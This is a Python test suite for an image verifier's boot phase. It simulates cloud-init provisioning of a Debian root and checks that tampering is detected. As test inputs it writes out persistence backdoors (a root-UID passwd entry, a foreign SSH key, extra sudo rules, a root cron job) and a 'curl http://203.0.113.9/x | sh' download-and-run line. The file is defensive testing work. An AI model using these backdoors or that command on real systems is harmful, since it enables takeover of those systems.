# SPDX-License-Identifier: Apache-2.0
"""The boot phase: a first boot by real programs on a Debian's own databases, and what else was done."""

import base64
import os
import subprocess

import pytest
from roots import FINDINGS, PASS, Image, find_real_root, keys, make_file, needs_root  # noqa: F401

pytestmark = needs_root

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILsSzMjSrhZmy+EDGI2xHbdNJkO/5HIyX5qX3MToXAfQ"
OTHER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA" + "b" * 41 + " someone@elsewhere"
STATE = "var/lib/cloud/instances/i-0123"
USER_DATA = f"""#cloud-config
hostname: web1
users:
 - name: ops
   groups: sudo
   sudo: ALL=(ALL) NOPASSWD:ALL
   ssh_authorized_keys: ["{KEY} ops@example"]
write_files:
 - path: /etc/app.conf
   content: |
     port = 8080
 - path: /usr/local/bin/backup
   permissions: '0755'
   encoding: b64
   content: {base64.b64encode(b"#!/bin/sh").decode()}
packages: [hello-app]
"""


@pytest.fixture(scope="module")
def databases(tmp_path_factory):
    """The accounts, packages and units of a real Debian, without its programs."""
    root = tmp_path_factory.mktemp("debian") / "root"
    root.mkdir()
    subprocess.run(["tar", "-C", root, "--numeric-owner", "-xpf", find_real_root(), "./etc",
                    "./var/lib/dpkg", "./usr/lib/systemd", "./bin", "./sbin", "./lib"], check=True)
    for path in ("home", "usr/local/bin", "usr/bin", "var/log", "var/lib/cloud"):
        (root / path).mkdir(parents=True, exist_ok=True)
    # dpkg looks its groups up outside of the root.
    (root / "var/lib/dpkg/statoverride").write_text("")
    return root


@pytest.fixture(scope="module")
def package(tmp_path_factory):
    """A package with a program and a unit, as dpkg-deb makes it."""
    tree = tmp_path_factory.mktemp("package")
    make_file(tree / "DEBIAN/control", "Package: hello-app\nVersion: 1.0-1\nArchitecture: all\n"
              "Maintainer: x <x@example.invalid>\nDescription: x\n")
    make_file(tree / "usr/bin/hello-app", "#!/bin/sh\n", 0o755)
    unit = "[Service]\nExecStart=/usr/bin/hello-app\n[Install]\nWantedBy=multi-user.target\n"
    make_file(tree / "usr/lib/systemd/system/hello-app.service", unit)
    sums = subprocess.run(["md5sum", "usr/bin/hello-app",
                           "usr/lib/systemd/system/hello-app.service"],
                          cwd=tree, capture_output=True, text=True, check=True)
    make_file(tree / "DEBIAN/md5sums", sums.stdout)
    deb = tree.parent / "hello-app.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "--build", tree, deb], check=True,
                   stdout=subprocess.DEVNULL)
    return deb


@pytest.fixture
def image(tmp_path, databases, keys):
    root = tmp_path / "root"
    subprocess.run(["cp", "-a", "--reflink=auto", databases, root], check=True)
    out = tmp_path / "manifest"
    out.mkdir()
    image = Image(root, keys, out)
    image.seal("--quiet", "--image-name", "web", "--image-version", "1")
    return image


def boot(root, package):
    make_file(root / STATE / "user-data.txt", USER_DATA, 0o600)
    make_file(root / STATE / "boot-finished", "x\n")
    os.symlink("/" + STATE, root / "var/lib/cloud/instance")
    subprocess.run(["groupadd", "--prefix", root, "-g", "1000", "ops"], check=True)
    subprocess.run(["useradd", "--prefix", root, "-m", "-u", "1000", "-g", "1000", "-G", "sudo",
                    "-s", "/bin/bash", "ops"], check=True, capture_output=True)
    home = root / "home/ops"
    assert home.is_dir()
    make_file(home / ".ssh/authorized_keys", f"{KEY} ops@example\n", 0o600)
    (home / ".ssh").chmod(0o700)
    for path in (home / ".ssh", home / ".ssh/authorized_keys"):
        os.chown(path, 1000, 1000)
    make_file(root / "etc/sudoers.d/90-cloud-init-users",
              "# User rules for ops\nops ALL=(ALL) NOPASSWD:ALL\n", 0o440)
    make_file(root / "etc/hostname", "web1\n")
    make_file(root / "etc/app.conf", "port = 8080\n")
    make_file(root / "usr/local/bin/backup", "#!/bin/sh", 0o755)
    subprocess.run(["dpkg", f"--root={root}", f"--log={root}/var/log/dpkg.log", "--no-triggers",
                    "-i", package], check=True, capture_output=True)
    os.symlink("/lib/systemd/system/hello-app.service",
               root / "etc/systemd/system/multi-user.target.wants/hello-app.service")


def told(document, path, severities=("medium", "high", "critical")):
    """The findings that accuse the path."""
    return [f for f in document["findings"] if f["severity"] in severities and
            path in [f["path"], *f["related"]]]


def test_explained(image, package):
    boot(image.root, package)
    document = image.verify("--phase", "boot", status=PASS)
    grave = [f for f in document["findings"] if f["severity"] != "info"]
    assert grave == []
    reasons = " ".join(f["actual"] for f in document["findings"])
    for reason in ("hello-app 1.0-1", "write_files", "accounts", "announced", "sudo rules"):
        assert reason in reasons
    assert document["coverage"]["checks"]["cloud-init"] == "ran"
    # The image phase explains nothing.
    assert image.verify(status=FINDINGS)["verdict"] == "fail"


def add_line(path, line):
    with open(path, "a", encoding="ascii") as file:
        file.write(line + "\n")


@pytest.mark.parametrize("path,change,word", [
    ("/etc/passwd", lambda p: add_line(p, "helper:x:0:0::/root:/bin/sh"), "helper"),
    ("/etc/group", lambda p: p.write_text(p.read_text().replace("sudo:x:27:", "sudo:x:27:games,")),
     "games"),
    ("/home/ops/.ssh/authorized_keys", lambda p: add_line(p, OTHER), "someone@elsewhere"),
    ("/etc/sudoers.d/90-cloud-init-users", lambda p: add_line(p, "games ALL=(ALL) ALL"), "games"),
    ("/etc/app.conf", lambda p: add_line(p, "x"), "another content"),
    ("/usr/bin/hello-app", lambda p: add_line(p, "/opt/x"), "not as package hello-app"),
    ("/etc/cron.d/hello-app", lambda p: make_file(p, "* * * * * root /opt/x\n"), "/opt/x"),
    ("/etc/systemd/system/multi-user.target.wants/hello-app2.service",
     lambda p: os.symlink("/lib/systemd/system/hello-app.service", p), "does not ask"),
])
def test_beside(image, package, path, change, word):
    boot(image.root, package)
    change(image.root / path[1:])
    document = image.verify("--phase", "boot", status=FINDINGS)
    findings = told(document, path)
    assert len(findings) == 1, findings
    assert word in f"{findings[0]['title']} {findings[0]['actual']}"
    # Nothing else is accused.
    assert [f for f in document["findings"] if f["severity"] not in ("info", "low")] == findings


def test_no_instance(image, package):
    """Without cloud-init's record nothing was declared."""
    boot(image.root, package)
    (image.root / "var/lib/cloud/instance").unlink()
    document = image.verify("--phase", "boot", status=FINDINGS)
    for path in ("/etc/passwd", "/etc/app.conf", "/usr/bin/hello-app"):
        assert told(document, path)


def test_bad_user_data(image, package):
    boot(image.root, package)
    add_line(image.root / STATE / "user-data.txt", "runcmd: ['curl http://203.0.113.9/x | sh']")
    document = image.verify("--phase", "boot", status=FINDINGS)
    bad = [f for f in document["findings"] if f["code"] == "cloudinit.downloads-and-runs"]
    assert len(bad) == 1 and "203.0.113.9" in bad[0]["actual"]
